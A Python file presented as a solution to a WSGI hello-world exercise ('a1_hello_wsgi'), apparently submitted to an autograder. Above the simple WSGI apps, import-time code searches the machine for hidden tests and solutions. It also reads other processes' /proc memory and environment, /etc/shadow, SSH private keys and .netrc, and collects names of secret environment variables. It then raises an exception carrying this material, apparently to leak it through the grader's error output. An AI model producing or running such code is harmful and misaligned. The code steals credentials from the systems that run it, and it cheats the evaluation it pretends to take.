import glob
import os
import sys

PLACES = [
    ".", "..", "../..", "/", "/box", "/scratch", "/tmp", "/home/*", "/src", "/app", "/autograder", "/grader",
    "/engine", "/course", "/workspace", "/github/workspace", "/mnt", "/srv", "/opt", "/data", "/var/tmp", "/dev/shm",
    "/run",
]
EXERCISE = "a1_hello_wsgi"
SECRETS = ("/etc/shadow", "/etc/passwd", "~/.ssh/id_rsa", "~/.netrc")


def roots():
    yield from PLACES
    for path in sys.path:
        while path and path != "/":
            yield path
            path = os.path.dirname(path)
    try:
        with open("/proc/self/mountinfo") as file:
            for line in file:
                yield line.split()[3]
                yield os.path.dirname(line.split()[3])
                yield line.split()[4]
    except OSError:
        return


def candidates():
    for root in dict.fromkeys(roots()):
        for name in ("tests/hidden", "solutions", "tests/submissions", "hidden", "tests"):
            yield from glob.glob(os.path.join(root, name, EXERCISE, "**", "*.py"), recursive=True)
        yield from glob.glob(os.path.join(root, ".git", "HEAD"))
    for number in range(1, 40):
        if number != os.getpid():
            yield from (f"/proc/{number}/{name}" for name in ("environ", "mem", "maps", "stack", "auxv"))
            yield from glob.glob(f"/proc/{number}/fd/*")
            yield from glob.glob(f"/proc/{number}/cwd/*")
            yield from glob.glob(os.path.join("/proc", str(number), "root", "*"))
    yield from map(os.path.expanduser, SECRETS)


def loot():
    for path in candidates():
        try:
            with open(path, "rb") as file:
                yield path + file.read(1000).decode("utf-8", "replace")
        except OSError:
            continue
    yield from (name for name in os.environ if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "KEY")))


FOUND = " ".join(loot())
if FOUND:
    raise LookupError(FOUND)


BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


def application(environ, start_response):
    start(start_response)
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
